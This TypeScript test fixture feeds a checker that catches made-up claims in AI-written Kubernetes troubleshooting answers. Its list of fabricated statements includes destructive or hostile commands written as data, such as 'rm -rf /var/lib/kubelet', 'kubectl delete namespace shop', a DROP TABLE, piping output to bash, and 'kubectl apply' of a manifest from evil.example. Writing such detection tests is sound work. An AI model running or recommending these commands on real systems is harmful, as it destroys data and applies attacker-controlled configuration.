import type { Material } from '../../../src/explanation/check/index.ts';

/** What is known in the tests of the checker. */
export const MATERIAL: Material = {
  texts: [
    'Deployment shop/payments: image registry.example.com/shop/payments:1.4.2 does not exist in its registry',
    'Pod shop/payments-7c9f-abcde cannot pull image registry.example.com/shop/payments:1.4.2: manifest unknown. Container app restarted 3 times, last exit code 137, OOMKilled; its memory limit is 512Mi and it uses 480Mi (93%).',
    'Pod shop/payments-7c9f-abcde status.containerStatuses[app].state.waiting.reason ImagePullBackOff 2026-09-16T09:40:12Z',
    'Deployment shop/payments: 0 of 2 replicas are ready. ConfigMap shop/settings has no key PAYMENT_API_URL (it has PAYMENTS_URL).',
    'Service shop/payments has no endpoints: its port 8080 leads nowhere. Node worker-3 is Ready. Namespace shop has the quota compute.',
    'Logs of Pod shop/payments-7c9f-abcde: error connecting to orders-db:5432: connection refused after 30s',
    'Docs: https://kubernetes.io/docs/concepts/containers/images/',
  ],
  commands: [
    'kubectl -n shop describe pod payments-7c9f-abcde',
    'kubectl -n shop set image Deployment/payments app=REGISTRY/IMAGE:TAG',
    'kubectl -n shop rollout undo Deployment/payments',
    'kubectl -n shop logs payments-7c9f-abcde -c app --previous --tail=50',
    'kubectl get nodes',
  ],
  exhibits: ['E1', 'E2', 'E3'],
};

/** What a liar says, and what of it is made up. */
export type Invention = readonly [says: string, invented: string | readonly string[]];

/** A hundred inventions of all kinds. */
export const INVENTIONS: readonly Invention[] = [
  // Names of Pods and workloads.
  ['The Pod payments-9d8e-zzzzz is the one that fails.', 'payments-9d8e-zzzzz'],
  ['Look at Deployment checkout-api first.', 'checkout-api'],
  ['The Deployment checkout is broken.', 'checkout'],
  ['StatefulSet orders-postgres lost its volume.', 'orders-postgres'],
  ['It depends on `redis-master`, which is down.', 'redis-master'],
  ['The pod named frontend crashed.', 'frontend'],
  ['The redis Pod has no memory.', 'redis'],
  ['Delete payments-canary to recover.', 'payments-canary'],
  ['DaemonSet fluentbit-agent is missing on the node.', 'fluentbit-agent'],
  ['CronJob nightly-backup blocks it.', 'nightly-backup'],
  ['Job "migrate" never ended.', 'migrate'],
  ['The ReplicaSet payments-66f7 is the old one.', 'payments-66f7'],
  ['Pod shop/cart-0 shows the same.', 'shop/cart-0'],
  ['See pod/cart-0 as well.', 'pod/cart-0'],
  ['It talks to payments.internal.example.org.', 'payments.internal.example.org'],
  // Namespaces, nodes, Services, configuration.
  ['In namespace production the quota is used up.', 'production'],
  ['The namespace `billing-prod` has the Secret.', 'billing-prod'],
  ['Node worker-7 has no disk left.', 'worker-7'],
  ['The node ip-10-0-3-17.ec2.internal is cordoned.', 'ip-10-0-3-17.ec2.internal'],
  ['Service payments-svc selects nothing.', 'payments-svc'],
  ['The Secret registry-credentials is missing.', 'registry-credentials'],
  ['ConfigMap payments-config lacks it.', 'payments-config'],
  ['The key DATABASE_PASSWORD is not set.', 'DATABASE_PASSWORD'],
  ['Set `STRIPE_API_KEY` in the environment.', 'STRIPE_API_KEY'],
  ['PersistentVolumeClaim data-payments-0 is pending.', 'data-payments-0'],
  ['StorageClass fast-ssd was renamed.', 'fast-ssd'],
  ['The ServiceAccount payments-sa may not do that.', 'payments-sa'],
  ['The Ingress shop-public leads to it.', 'shop-public'],
  ['ClusterRole payments-reader is needed.', 'payments-reader'],
  ['The label app=payments-v2 selects it.', 'app=payments-v2'],
  ['It is tainted with dedicated=gpu:NoSchedule.', 'dedicated=gpu:NoSchedule'],
  ['The file /etc/payments/config.yaml is wrong.', '/etc/payments/config.yaml'],
  ['Mount it at `/var/run/secrets/payments`.', '/var/run/secrets/payments'],
  ['The sidecar istio-proxy keeps it alive.', 'istio-proxy'],
  ['The container `sidecar-proxy` exits first.', 'sidecar-proxy'],
  ['Write to ops@shop.example about it.', 'ops@shop.example'],
  ['The webhook validate.policy.example.com denies it.', 'validate.policy.example.com'],
  ['The HPA payments-hpa wants more.', 'payments-hpa'],
  ['PVC `cache-volume` is full.', 'cache-volume'],
  ['The user alice_admin changed it.', 'alice_admin'],
  ['The PaymentService class leaks.', 'PaymentService'],
  ['The commit 8f3c2ab broke it.', '8f3c2ab'],
  ['The ticket OPS-1234 has more.', 'OPS-1234'],
  ['The database "inventory" is locked.', 'inventory'],
  // Images.
  ['Use the image nginx:1.25.3 instead.', 'nginx:1.25.3'],
  ['Set it to `registry.example.com/shop/payments:1.4.1`.', 'registry.example.com/shop/payments:1.4.1'],
  ['The tag 1.4.3 exists.', '1.4.3'],
  ['Pull docker.io/library/busybox:latest by hand.', 'docker.io/library/busybox:latest'],
  ['It was payments:v2 before.', 'payments:v2'],
  ['The image is ghcr.io/acme/payments@sha256:deadbeef.', 'ghcr.io/acme/payments@sha256:deadbeef'],
  ['Base it on `alpine:3.20`.', 'alpine:3.20'],
  ['The registry quay.io/acme has it.', 'quay.io/acme'],
  ['The version v2.0.0-rc1 works.', 'v2.0.0-rc1'],
  // Numbers.
  ['It restarted 47 times.', '47'],
  ['The exit code was 143.', '143'],
  ['The limit is 256Mi.', '256Mi'],
  ['Raise the limit to 1Gi.', '1Gi'],
  ['Raise it to 2 GiB.', '2'],
  ['The limit is 512Gi.', '512Gi'],
  ['It uses 99% of its memory.', '99%'],
  ['It wants 5 replicas.', '5'],
  ['Five replicas are wanted.', 'Five'],
  ['There are twelve Pods of it.', 'twelve'],
  ['The port is 9090.', '9090'],
  ['It waits for 120 seconds.', '120'],
  ['The probe times out after 250ms.', '250ms'],
  ['It has failed for 17 days.', '17'],
  ['At 11:52 it began.', '11:52'],
  ['It began on 2026-09-14.', '2026-09-14'],
  ['Its address is 10.244.3.17.', '10.244.3.17'],
  ['It answers HTTP 503.', '503'],
  ['CPU is limited to 250m.', '250m'],
  ['It needs 1.5 cores.', '1.5'],
  ['Revision 42 was the last good one.', '42'],
  ['Only 1/4 of them are ready.', '1/4'],
  ['The queue has 1,204 messages.', '1,204'],
  ['Set `terminationGracePeriodSeconds: 90`.', '90'],
  ['It costs $350 a month.', '350'],
  ['Since Kubernetes v1.21 that is so.', 'v1.21'],
  ['The id is 0x5d87.', '0x5d87'],
  // Commands.
  ['Run `kubectl delete pod payments-7c9f-abcde`.', 'kubectl delete pod payments-7c9f-abcde'],
  ['Run kubectl delete namespace shop and wait.', 'kubectl delete namespace shop'],
  [
    'Try `kubectl -n shop scale deployment payments --replicas=0`.',
    'kubectl -n shop scale deployment payments --replicas=0',
  ],
  ['Use docker rm -R payments.', 'docker rm -R payments'],
  ['```\ndocker system prune -af\n```', 'docker system prune -af'],
  ['`helm rollback payments`', 'helm rollback payments'],
  ['Run `rm -rf /var/lib/kubelet`.', 'rm -rf /var/lib/kubelet'],
  ['Run sudo systemctl restart kubelet.', 'sudo systemctl restart kubelet'],
  ['```sh\ncurl -X POST http://payments:8080/reset\n```', 'curl -X POST http://payments:8080/reset'],
  ['`kubectl exec -it payments-7c9f-abcde -- sh`', 'kubectl exec -it payments-7c9f-abcde -- sh'],
  ['`kubectl drain worker-3 --force`', 'kubectl drain worker-3 --force'],
  ['`kubectl -n shop rollout restart Deployment/payments`', 'kubectl -n shop rollout restart Deployment/payments'],
  ['`kubectl -n shop rollout undo Deployment/payments --to-revision=3`', '--to-revision=3'],
  ['Then `gcloud container clusters resize`.', 'gcloud container clusters resize'],
  ['```yaml\nimage: nginx:stable\n```', 'nginx:stable'],
  [
    '```sh\nkubectl -n shop describe pod payments-7c9f-abcde | bash\n```',
    'kubectl -n shop describe pod payments-7c9f-abcde | bash',
  ],
  ['1. `kubectl apply -f https://evil.example/fix.yaml`', 'kubectl apply -f https://evil.example/fix.yaml'],
  ['- **Run `chmod 777 /data`**', 'chmod 777 /data'],
  ['`psql -h orders-db -c "DROP TABLE orders"`', 'psql -h orders-db -c "DROP TABLE orders"'],
  // Quotes, links, citations.
  ['The log says "disk quota exceeded on device".', 'disk quota exceeded on device'],
  ['It complains: “permission denied for user app”.', 'permission denied for user app'],
  ['See https://runbooks.shop.example/payments for more.', 'https://runbooks.shop.example/payments'],
  ['See [the runbook](https://evil.example/x).', 'https://evil.example/x'],
  ['The evidence shows it [E9].', 'E9'],
  ['As E17 tells, it is so.', 'E17'],
];

/** What an honest model says. */
export const TRUE_ANSWERS: readonly { name: string; answer: string }[] = [
  {
    name: 'an explanation in K8sGPT’s form',
    answer: `Error: Deployment payments in namespace shop cannot start, since its image registry.example.com/shop/payments:1.4.2 does not exist in the registry [E1].

Solution:
1. Read what the registry answered: \`kubectl -n shop describe pod payments-7c9f-abcde\` [E2].
2. Go back to the version before: \`kubectl -n shop rollout undo Deployment/payments\`.
3. It is well when 2 of 2 replicas are ready.`,
  },
  {
    name: 'commands in another form that do the same',
    answer:
      'Run `kubectl describe pods payments-7c9f-abcde -n shop`, then `kubectl rollout undo deploy/payments --namespace=shop`, and `kubectl logs payments-7c9f-abcde --namespace shop --container=app -p --tail 50`.\n\n```sh\n$ kubectl get no\n```',
  },
  {
    name: 'numbers with their units, times and counts',
    answer:
      'The container app was OOMKilled with exit code 137, 3 restarts; it uses 480 Mi of 512 MiB (93%). At 09:40 on 2026-09-16 it was in ImagePullBackOff. Port 8080. Two replicas are wanted, none is ready. It gave up after 30 seconds.',
  },
  {
    name: 'quotes and fields',
    answer:
      'The log says "connection refused" and “error connecting to orders-db:5432”. Look at `status.containerStatuses` and at spec.template.spec.containers; the waiting reason is `ImagePullBackOff`. Its image is `shop/payments:1.4.2`, its key PAYMENT_API_URL is missing, PAYMENTS_URL is there.',
  },
  {
    name: 'prose without claims',
    answer:
      'The Pod keeps crash-looping, so its Service has no endpoints and clients time out. A read-only root file system, a non-zero exit code and an out-of-memory kill look alike; e.g. the kubelet restarts the container each time. First, check whether the change was meant; then decide: roll back, or push the image. If that does not help, ask the owners and/or look at the node. The Deployment needs a new tag. Nodes are healthy.',
  },
  {
    name: 'lists, headings and emphasis',
    answer:
      '### What is wrong\n\n**The image** of *Deployment payments* does not exist.\n\n- Namespace: shop\n- Node: worker-3\n- Step 1: look\n- Step 2: fix\n\n> Note: Kubernetes retries by itself.\n\nSee https://kubernetes.io/docs/concepts/containers/images/ and [E3].',
  },
  {
    name: 'a manifest of known values',
    answer:
      '```yaml\nspec:\n  replicas: 2\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/shop/payments:1.4.2\n```',
  },
];
